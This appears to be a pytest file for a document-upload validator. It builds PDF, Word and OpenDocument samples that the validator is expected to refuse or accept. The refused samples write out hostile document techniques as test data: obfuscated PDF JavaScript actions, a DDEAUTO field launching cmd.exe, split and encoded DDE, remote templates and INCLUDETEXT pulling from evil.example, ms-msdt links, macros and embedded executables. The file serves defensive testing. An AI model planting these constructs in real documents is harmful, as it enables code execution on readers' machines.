"""Documents that run or fetch something when they are opened are refused, however it is hidden;
those that only look unusual are taken."""
import io
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, Fit, NameObject, TextStringObject

from peoplehub.core import documents as originals
from peoplehub.core.documents import errors
from peoplehub.core.errors import Invalid
from tests.library.test_originals import archive, docx, odt, pdf_file, pdf_with_a_button

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPACES = {"office": "office", "text": "text", "draw": "drawing", "script": "script"}
ODF = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{space}:1.0"'
               for name, space in SPACES.items())
ODF += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
SCRIPT = {"/S": "/JavaScript", "/JS": "app.alert(1)"}


# --- builders ---


def thing(of):
    """A PDF object of plain Python ones."""
    if isinstance(of, dict):
        return DictionaryObject({NameObject(key): thing(value) for key, value in of.items()})
    if isinstance(of, list):
        return ArrayObject(map(thing, of))
    return NameObject(of) if of.startswith("/") else TextStringObject(of)


def pdf(change=lambda writer: None) -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    change(writer)
    writer.write(out)
    return out.getvalue()


def with_in_catalogue(**parts) -> bytes:
    return pdf(lambda writer: writer.root_object.update(thing(
        {f"/{name}": part for name, part in parts.items()})))


def with_a_bookmark_that_runs(writer) -> None:
    item = writer.add_outline_item(title="Chapter", page_number=0).get_object()
    item.pop("/Dest", None)
    item[NameObject("/A")] = writer._add_object(thing(SCRIPT))


def packed_pdf(hidden: bytes) -> bytes:
    """A PDF of the newer kind, whose objects are packed where nobody can read them."""
    inside = [(1, b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>"),
              (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
              (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"), (4, hidden)]
    numbers, words = b"", b""
    for number, said in inside:
        numbers += b"%d %d " % (number, len(words))
        words += said + b" "
    packed = zlib.compress(numbers + words)
    out = b"%%PDF-1.5\n5 0 obj\n<</Type/ObjStm/N 4/First %d/Length %d/Filter/FlateDecode>>" % (
        len(numbers), len(packed)) + b"stream\n" + packed + b"\nendstream\nendobj\n"
    at = len(out)
    rows = b"".join(bytes([2, 0, 5, n]) for n in range(4))
    table = (b"\x00\x00\x00\x00" + rows + bytes([1]) + out.index(b"5 0 obj").to_bytes(2, "big")
             + b"\x00" + bytes([1]) + at.to_bytes(2, "big") + b"\x00")
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % at


def word(body="<w:p/>", links: tuple[str, ...] = (), types="", **more) -> bytes:
    listed = "".join(f'<Relationship Id="r{n}" {link}/>' for n, link in enumerate(links))
    return docx(f"<w:document {W}><w:body>{body}</w:body></w:document>", **{
        "[Content_Types].xml": f"<Types>{types}</Types>",
        "word/_rels/document.xml.rels": f"<Relationships>{listed}</Relationships>"} | more)


def link(kind: str, target: str, outside=False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'Type="{KINDS}/{kind}" Target="{target}"{mode}'


def field(*pieces: str) -> str:
    def mark(kind):
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p>{mark("begin")}{said}{mark("separate")}<w:r><w:t>1</w:t></w:r>{mark("end")}</w:p>'


def web_word(part="word/document2.xml", body="") -> bytes:
    """As Word for the web writes it: the words are in a part of another name."""
    main = f'<Relationship Id="r1" {link("officeDocument", f"/{part}")}/>'
    return archive({
        "_rels/.rels": f"<Relationships>{main}</Relationships>", "[Content_Types].xml": "<Types/>",
        part: f"<w:document {W}>{body}</w:document>",
    })


def open_text(body="", scripts="", **more) -> bytes:
    return odt(f"<office:document-content {ODF}><office:scripts>{scripts}</office:scripts>"
               f"<office:body><office:text>{body}</office:text></office:body>"
               "</office:document-content>", **more)


def with_first_size(data: bytes, compression: int) -> bytes:
    """The archive, its first part said to be packed in another way."""
    at, changed = data.find(b"PK\x01\x02"), bytearray(data)
    changed[at + 10] = changed[8] = compression
    return bytes(changed)


# --- what must not come in ---

TEMPLATE = link("attachedTemplate", "https://evil.example/a.dotm", True)
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
PDFS = {
    "a script of a bookmark": (pdf(with_a_bookmark_that_runs), errors.RUNS),
    "a script among the names": (with_in_catalogue(
        Names={"/JavaScript": {"/Names": ["a", SCRIPT]}}), errors.RUNS),
    "a script in other letters": (pdf(lambda writer: writer.root_object.update(thing(
        {"/OpenAction": SCRIPT}))).replace(b"/JavaScript", b"/J#61vaScri#70t"), errors.RUNS),
    "a script when it is closed": (with_in_catalogue(AA={"/WC": {"/S": "/Named"}}), errors.RUNS),
    "a form that sends itself": (pdf_with_a_button("/SubmitForm"), errors.RUNS),
    "a button that opens another file": (pdf_with_a_button("/GoToR"), errors.RUNS),
    "a field that reckons": (with_in_catalogue(AcroForm={"/Fields": [
        {"/T": "sum", "/AA": {"/C": SCRIPT}}]}), errors.RUNS),
    "a form of XFA": (with_in_catalogue(AcroForm={"/XFA": ["template", "x"]}), errors.XFA),
    "an attached file": (pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")),
                         errors.HAS_FILES),
    "a film": (with_in_catalogue(Extra={"/Subtype": "/RichMedia"}), errors.RUNS),
    "a packed script": (packed_pdf(b"<</First<</A<</S/JavaScript/JS(x)>>>>>>"), errors.RUNS),
    "a packed script in other letters": (packed_pdf(b"<</A<</S/#4aavaScript/JS(x)>>>>"),
                                         errors.RUNS),
    "a packed form of XFA": (packed_pdf(b"<</XFA[(a)(b)]>>"), errors.XFA),
    "too many pages": (pdf_file(501), errors.TOO_MANY_PAGES),
}
WORDS = {
    "a template from elsewhere": (word(**{
        "word/_rels/settings.xml.rels": f"<a><Relationship {TEMPLATE}/></a>"}), errors.FETCHES),
    "a picture from elsewhere": (word(links=(link("image", "https://evil.example/a.png", True),)),
                                 errors.FETCHES),
    "a page inside": (word(links=(link("aFChunk", "page.html"),)), errors.FETCHES),
    "renamed macros": (word(**{"word/media/image7.png": OLE}), errors.RUNS),
    "macros by their link": (word(links=(link("vbaProject", "a.dat"),)), errors.RUNS),
    "macros by their kind": (word(types=f'<Override PartName="/a" ContentType="{MACROS}"/>'),
                             errors.RUNS),
    "an object of another program": (word(links=(link("oleObject", "embeddings/a.bin"),)),
                                     errors.RUNS),
    "a control": (word(links=(link("control", "activeX/activeX1.xml"),)), errors.RUNS),
    "an archive inside": (word(**{"word/media/a.zip": docx()}), errors.RUNS),
    "a sheet inside": (word(links=(link("package", "embeddings/a.xlsx"),)), errors.HAS_FILES),
    "a program inside": (word(**{"word/media/a.jpeg": b"MZ\x90\x00"}), errors.RUNS),
    "DDE": (word(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), errors.RUNS),
    "DDE in pieces": (word(field("DD", "E", "AUTO", " cmd")), errors.RUNS),
    "DDE in codes": (word(field("QUOTE 68 68 69 65 85 84 79")), errors.RUNS),
    "DDE in one element": (word('<w:fldSimple w:instr=" DDE cmd x"/>'), errors.RUNS),
    "DDE in a footnote": (word(**{"word/footnotes.xml": f"<w:footnotes {W}>{field('DDE cmd')}"
                                  "</w:footnotes>"}), errors.RUNS),
    "DDE in a part of another name": (web_word("other/part.xml", field("DDEAUTO cmd")),
                                      errors.RUNS),
    "words from elsewhere": (word(field("INCLUDETEXT https://evil.example/a.docx")),
                             errors.FETCHES),
    "a link that is a command": (word(links=(link("hyperlink", "ms-msdt:/id", True),)),
                                 errors.RUNS),
    "a password": (OLE, errors.LOCKED_DOCUMENT),
    "more than two hundred pictures": (word(**{f"word/media/image{n}.png": b"\x89PNG"
                                               for n in range(240)}), errors.TOO_MANY_PARTS),
    "another way of packing": (with_first_size(docx(), 14), errors.NOT_DOCUMENT),
}  # fmt: skip
TEXTS = {
    "a script": (open_text("<text:script script:language='Basic'>x</text:script>"),
                 errors.RUNS),
    "an event": (open_text(scripts='<office:event-listeners><script:event-listener '
                           'script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'
                           "</office:event-listeners>"), errors.RUNS),
    "a link that runs": (open_text('<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'),
                         errors.RUNS),
    "a macro of the old kind": (open_text('<text:a xlink:href="macro:///Standard.A.B()"/>'),
                                errors.RUNS),
    "a script in a folder": (open_text(**{"Scripts/python/a.py": "x"}), errors.RUNS),
    "macros in small letters": (open_text(**{"basic/Standard/a.xml": "x"}), errors.RUNS),
    "DDE": (open_text('<text:dde-connection text:connection-name="a"/>'), errors.RUNS),
    "an object of another program": (open_text(**{"Object 1": OLE}), errors.RUNS),
    "a picture from elsewhere": (open_text('<draw:image xlink:href="https://evil.example/a.png"/>'),
                                 errors.FETCHES),
    "a part from elsewhere": (open_text('<text:section-source xlink:href="//evil/a.odt"/>'),
                              errors.FETCHES),
    "a script in a part": (open_text(**{"Object 1/content.xml": f"<text:script {ODF}/>"}),
                           errors.RUNS),
    "a password": (open_text(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
                   errors.LOCKED_DOCUMENT),
}
CASES = {f"{kind} with {name}": (f"a.{kind}", *case)
         for kind, cases in (("pdf", PDFS), ("docx", WORDS), ("odt", TEXTS))
         for name, case in cases.items()}


@pytest.mark.parametrize("case", CASES)
def test_what_runs_or_fetches_something_is_refused_for_that(case):
    name, data, sentence = CASES[case]
    with pytest.raises(Invalid) as refused:
        originals.checked(data, name)
    assert str(refused.value) == sentence


# --- what may ---


def locked(algorithm: str, user: str = "") -> bytes:
    def lock(writer):
        writer.encrypt(user, "the owner's", algorithm=algorithm)

    return pdf(lock)


def with_links(writer) -> None:
    writer.add_outline_item(title="Chapter", page_number=0)
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://peoplehub.example"))
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), target_page_index=0, fit=Fit.fit()))


TABLE = archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})
TAKEN = {
    "a PDF that is locked only against change": ("a.pdf", locked("RC4-128")),
    "a newer PDF that is locked only against change": ("a.pdf", locked("AES-128")),
    "the newest PDF that is locked only against change": ("a.pdf", locked("AES-256")),
    "a PDF with a byte-order mark": ("a.pdf", b"\xef\xbb\xbf" + pdf()),
    "a PDF after an empty line": ("a.pdf", b"\r\n" + pdf()),
    "a PDF with bookmarks and links": ("a.pdf", pdf(with_links)),
    "a packed PDF": ("a.pdf", packed_pdf(b"<<>>")),
    "a PDF of 500 pages": ("a.pdf", pdf_file(500)),
    "a form to fill in": ("a.pdf", with_in_catalogue(AcroForm={"/Fields": [
        {"/T": "name", "/FT": "/Tx", "/AAPL": "/AAB"}]})),
    "a file of Word for the web": ("a.docx", web_word()),
    "a Word file with links": ("a.docx", word(
        field(' HYPERLINK "https://peoplehub.example/LINK" ') + field(" PAGE ") + field(" TOC "),
        links=(link("hyperlink", "https://peoplehub.example", True),
               link("image", "media/a.png")))),
    "a Word file with a chart": ("a.docx", word(**{
        "word/charts/_rels/chart1.xml.rels": "<Relationships><Relationship "
        f'{link("package", "../embeddings/Sheet1.xlsx")}/></Relationships>',
        "word/embeddings/Sheet1.xlsx": TABLE})),
    "a Word file with 200 pictures": ("a.docx", word(**{
        f"word/media/image{n}.png": b"\x89PNG" for n in range(200)})),
    "a text with a picture": ("a.odt", open_text(
        '<draw:image xlink:href="Pictures/a.png"/><text:a xlink:href="https://peoplehub.example"/>'
        '<draw:object xlink:href="./Object 1"/>', **{"Pictures/a.png": b"\x89PNG"})),
}


@pytest.mark.parametrize("case", TAKEN)
def test_what_only_looks_unusual_is_taken(case):
    name, data = TAKEN[case]
    document = originals.checked(data, name)
    assert document.pages or not name.endswith("pdf")
    assert document.data == (data[data.find(b"%PDF"):] if name.endswith("pdf") else data)


def test_a_pdf_that_asks_for_a_password_is_said_to():
    with pytest.raises(Invalid) as refused:
        originals.checked(locked("AES-256", "secret"), "a.pdf")
    assert str(refused.value) == errors.LOCKED
